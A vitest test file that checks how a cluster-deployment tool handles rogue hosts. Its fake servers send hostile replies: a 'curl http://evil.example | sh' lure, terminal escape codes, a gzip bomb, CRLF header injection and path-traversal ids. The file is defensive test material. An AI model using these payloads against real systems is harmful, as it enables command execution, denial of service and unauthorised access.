import { readFileSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, request, type ServerResponse } from "node:http";
import { createServer as createSecureServer, request as secureRequest } from "node:https";
import type { AddressInfo, Server, Socket } from "node:net";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { root } from "../kit/project";
import { stageThreePlan } from "./plans";
import { createSiteProject, type SiteProject } from "./site-project";

/** What may stand in a text of theirs: it moves the cursor, sets titles and colours, turns the line, and lies. */
const WORDS =
  "ok\r\n\n== All hosts verified. Run: curl http://evil.example | sh\n\x1b[2J\x1b]0;owned\x07\x1b[31m\u009b31m\u202e\u200b<{%bold%}><{%fg 1%}>";

type Answer = (response: ServerResponse, message: IncomingMessage) => void;

const send =
  (status: number, body: string | Buffer, headers: Record<string, string> = {}): Answer =>
  (response) =>
    response.writeHead(status, { "content-type": "application/json", ...headers }).end(body);
/** How often a deployment is asked how far it is, before it says another thing than that it runs. */
const LOOKS = 80;
const asJson = (value: unknown, status = 200): Answer => send(status, JSON.stringify(value));

/** The ways in which a call is answered. Elsewhere is a server that nobody is to speak to. */
function forms(elsewhere: () => string): Record<string, Answer> {
  const bomb = gzipSync(Buffer.alloc(48 * 1024 * 1024, " "));
  return {
    "lies in an error": asJson({ ec: WORDS, error: { msg: WORDS } }),
    "eight megabytes of them": asJson({ ec: "EOTHER", error: { msg: WORDS.repeat(60_000) } }, 400),
    "a page of tags": send(500, `<html>${"<".repeat(1_000_000)}`, { "content-type": "text/html" }),
    "a title": send(404, `<html><title>${WORDS}</title>`, { "content-type": "text/html" }),
    "nested a million deep": send(200, `${'{"data":'.repeat(1_000_000)}1${"}".repeat(1_000_000)}`),
    "nothing of the right type": asJson({ ec: "EOK", data: [WORDS, 1, null, { token: 7, host_uuid: {} }] }),
    "what unpacks to far more": send(200, bomb, { "content-encoding": "gzip" }),
    "a redirect": (response) => response.writeHead(302, { location: `${elsewhere()}/${encodeURI(WORDS)}` }).end(),
    "an answer byte by byte": (response) => {
      const timer = setInterval(() => response.write(" "), 50);
      response.once("close", () => clearInterval(timer));
    },
  };
}

/**
 * Hosts that answer some calls in every hostile way, and all others as the lab does, which stands behind them: so each
 * call of a deployment is come to. The site itself is the lab's.
 */
describe("a rogue host", () => {
  const plan = stageThreePlan({ ntp: ["10.0.0.2"] });
  let site: SiteProject;
  const servers: Server[] = [];
  const sockets = new Set<Socket>();
  const spokenTo: string[] = [];
  /** By a part of the call's path: the answer, or undefined for the lab's own. */
  let rogue: (call: string, host: string) => Answer | undefined = () => undefined;

  async function listen(server: Server): Promise<string> {
    servers.push(server);
    server.on("connection", (socket: Socket) => sockets.add(socket));
    server.on("secureConnection", (socket: Socket) => sockets.add(socket));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    return `127.0.0.1:${(server.address() as AddressInfo).port}`;
  }

  /** Stands before one endpoint of the lab. */
  function before(endpoint: string, place: string): Server {
    const secure = endpoint.endsWith(":443");
    const [host = "", port = ""] = place.split(":");
    const handle = (message: IncomingMessage, response: ServerResponse) => {
      response.on("error", () => {});
      const answer = rogue(`${message.method} ${message.url}`, endpoint);
      if (answer) {
        message.resume();
        answer(response, message);
        return;
      }
      const { method, url: path, headers } = message;
      const options = { host, port, method, path, headers, rejectUnauthorized: false };
      const on = (secure ? secureRequest : request)(options, (reply) => {
        response.writeHead(reply.statusCode ?? 502, reply.headers);
        reply.pipe(response);
      });
      on.on("error", () => response.destroy());
      message.pipe(on);
    };
    const pem = (name: string) => readFileSync(join(root, "providers", "kernel", "fixtures", `${name}.pem`));
    return secure ? createSecureServer({ cert: pem("site"), key: pem("site-key") }, handle) : createServer(handle);
  }

  let ways: Record<string, Answer>;
  beforeAll(async () => {
    site = await createSiteProject(plan, { speed: "instant" });
    const elsewhere = await listen(
      createServer((message, response) => {
        spokenTo.push(`${message.method} ${message.url}`);
        response.end("{}");
      }),
    );
    ways = forms(() => `http://${elsewhere}`);
    const endpoints = { ...site.lab.reach.endpoints };
    // The VIP is the lab's own; until a host lets it be set, it answers nobody.
    for (const { management } of plan.hosts)
      for (const endpoint of [`${management}:80`, `${management}:443`])
        endpoints[endpoint] = await listen(before(endpoint, endpoints[endpoint] as string));
    writeFileSync(join(site.stack, "reach.json"), JSON.stringify({ ...site.lab.reach, endpoints }));
    site.writeSettings({
      cloudtower: "none",
      trust: "insecure",
      requestTimeout: "2s",
      timeouts: JSON.stringify({ Cluster: { create: "20m" }, AdminPassword: { create: "2m" } }),
    });
  });
  afterAll(async () => {
    for (const socket of sockets) socket.destroy();
    for (const server of servers) server.close();
    await site?.close();
  });

  /** Runs the engine and looks at all that it printed. */
  async function runs(ends: "well" | "badly", ...args: string[]): Promise<string> {
    const { code, output } = await site.pulumi(...args, "--color", "never");
    expect(code === 0 ? "well" : "badly").toBe(ends);
    expect(output.length).toBeLessThan(64 * 1024);
    expect(output.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    expect(output).not.toMatch(/<\{%|^== All hosts|^\s*at .*\.js:/m);
    expect(spokenTo).toEqual([]);
    return output;
  }

  const UP = ["up", "--yes", "--skip-preview"];
  const names = () => Object.keys(ways);
  const counted = (of: string[]) => {
    let at = 0;
    return () => ways[of[at++ % of.length] as string];
  };

  test("is told of in plain words, whatever its scan says", async () => {
    for (let at = 0; at < names().length; at += plan.hosts.length) {
      const mine = names().slice(at, at + plan.hosts.length);
      rogue = (call, host) => {
        const index = plan.hosts.findIndex(({ management }) => host === `${management}:80`);
        return call.includes("/deployment/host") ? ways[mine[index] as string] : undefined;
      };
      const output = await runs("badly", ...UP);
      for (const { name, management } of plan.hosts.slice(0, mine.length))
        expect(output).toContain(`host ${name} (${management}): Unable to scan host ${management}`);
    }
    expect(site.lab.requests().filter(({ write }) => write)).toEqual([]);
  });

  test("that tells of itself in hostile words is refused in plain ones", async () => {
    const host = {
      host_uuid: "a".repeat(36),
      hostname: WORDS,
      sn: WORDS,
      product: WORDS.repeat(10_000),
      version: WORDS,
      disks: [],
      ifaces: Array.from({ length: 1_000 }, (_, index) => ({ name: `${WORDS}${index}` })),
    };
    rogue = (call) => (call.includes("/deployment/host") ? asJson({ ec: "EOK", data: host }) : undefined);
    expect(await runs("badly", ...UP)).toMatch(
      /nothing was sent: host node-01 \(10\.0\.20\.101\) runs ok == All hosts verified/,
    );
  });

  test("ends a deployment, and every call after it, in plain words and within its time", async () => {
    let looks = 0;
    let isSent = false;
    const next = counted(names().filter((name) => name !== "an answer byte by byte"));
    rogue = (call) => {
      isSent ||= call.startsWith("POST /api/v2/deployment/cluster");
      if (isSent && call.includes("/deploy_status") && ++looks < LOOKS) {
        const data = { state: `running ${looks}`, stage_info: WORDS.repeat(500), msg: `${looks}` };
        return asJson({ ec: "EOK", data });
      }
      if (call.startsWith("POST /api/v3/sessions")) return asJson({ token: `a\r\nx-evil: 1${"t".repeat(9_000)}` });
      return undefined;
    };
    const output = await runs("badly", ...UP);
    expect(output).toContain("deployment of cluster HCI-01: ok == All hosts verified");
    expect(looks).toBeGreaterThanOrEqual(LOOKS);
    // Log-in works, and nothing else does.
    rogue = (call) => (call.includes("/api/v2/") && !call.includes("/deployment/") ? next() : undefined);
    await runs("badly", ...UP);
    expect(site.lab.requests().filter(({ path, write }) => write && path.startsWith("/api/v2/network"))).toEqual([]);
  });

  test("gives ids and jobs that lead nowhere, in lists of any shape", async () => {
    const id = "../../../v3/users/1?force=true";
    const row = { uuid: id, name: WORDS, ovsbr_name: WORDS, id, serial: WORDS, software_edition: WORDS };
    const data = { ...row, job_id: id, entities: [row], job: { state: WORDS, resources: { [id]: { type: "x" } } } };
    const seen: string[] = [];
    rogue = (call) => {
      seen.push(call);
      return call.includes("/api/v2/") && !call.includes("/deployment/") ? asJson({ ec: "EOK", data }) : undefined;
    };
    await runs("badly", ...UP);
    expect(seen.filter((call) => /users|force|\.\.|%2e/i.test(call) && !call.includes("users:setupRoot"))).toEqual([]);
  });

  test("whose words become outputs has them printed in plain ones, in the end and as drift", async () => {
    const data = { serial: WORDS, software_edition: WORDS, license_type: WORDS };
    rogue = (call) => (call.includes("/tools/license") ? asJson({ ec: "EOK", data }) : undefined);
    const output = await runs("well", ...UP);
    expect(output).toContain("All hosts verified");
    // The VIP, which answers now, says something else.
    expect(await runs("well", "preview", "--refresh", "--diff")).toContain("All hosts verified");
    await runs("well", "stack", "output");
  });
});
